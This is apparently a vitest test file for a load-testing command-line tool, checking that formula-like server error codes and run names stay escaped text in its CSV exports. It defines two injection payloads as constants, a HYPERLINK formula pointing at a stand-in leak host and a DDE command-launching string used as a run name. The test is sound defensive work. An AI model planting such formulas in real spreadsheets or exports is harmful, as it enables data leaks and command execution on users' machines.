import { startTestbedServer, type Testbed } from "@taillab/backend";
import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runCli } from "./test-support/run-cli.ts";

/**
 * A hostile server and hostile names: what a server answers and what a run is called must reach
 * spreadsheets as text, whatever they look like.
 */

const FORMULA_CODE = '=HYPERLINK("http://evil.example/?leak","open")';
const FORMULA_NAME = "=cmd|' /C calc'!A0";

let scratch: string;
let server: Testbed;

beforeAll(async () => {
  scratch = await mkdtemp(join(tmpdir(), "taillab-cli-hostile-"));
  server = await startTestbedServer({
    buckets: ["loadgen"],
    interceptor: ({ operation }) =>
      operation === "GetObject"
        ? { fault: { status: 500, code: FORMULA_CODE, message: "hostile" } }
        : undefined,
  });
});
afterAll(async () => {
  await server?.close();
  await rm(scratch, { recursive: true, force: true });
});

const KEYS = { AWS_ACCESS_KEY_ID: "any", AWS_SECRET_ACCESS_KEY: "any" };

/** Runs against the hostile server; its GETs all fail with FORMULA_CODE. */
async function hostileRun(name: string, out: string) {
  const result = await runCli(
    [
      "run",
      "--endpoint",
      server.url,
      ...["--clients", "1", "--samples", "2", "--size", "1KiB"],
      ...["--name", name, "--out", out, "--json"],
    ],
    KEYS,
  );
  expect(result.code, result.stderr).toBe(1);
  return (JSON.parse(result.stdout) as { runId: string }).runId;
}

/** The cells of a CSV that start like a formula (after an opening quote, if quoted). */
function formulaCells(csv: string): string[] {
  return [...csv.matchAll(/(?:^|,)"?([=+@]|-(?!\d))[^,\r\n]*/gm)].map((match) => match[0]);
}

describe("hostile server codes and run names in CSV", () => {
  it("a server's formula-like error code and a formula-like run name stay text in every CSV", async () => {
    const out = join(scratch, "out");
    const runId = await hostileRun(FORMULA_NAME, out);

    const requests = await readFile(join(out, "requests.csv"), "utf8");
    expect(requests).toContain("'=HYPERLINK(");
    expect(formulaCells(requests)).toEqual([]);

    const summaryFile = join(scratch, "summary.csv");
    const requestsFile = join(scratch, "requests.csv");
    for (const args of [
      ["--out", summaryFile],
      ["--requests", "--out", requestsFile],
    ]) {
      const report = await runCli(["report", runId, "--format", "csv", ...args]);
      expect(report.code, report.stderr).toBe(0);
    }
    const summary = await readFile(summaryFile, "utf8");
    expect(summary).toContain(`'${FORMULA_NAME}`);
    expect(summary).toContain("'=HYPERLINK(");
    expect(formulaCells(summary)).toEqual([]);
    const exported = await readFile(requestsFile, "utf8");
    expect(exported).toContain("'=HYPERLINK(");
    expect(formulaCells(exported)).toEqual([]);
  });
});
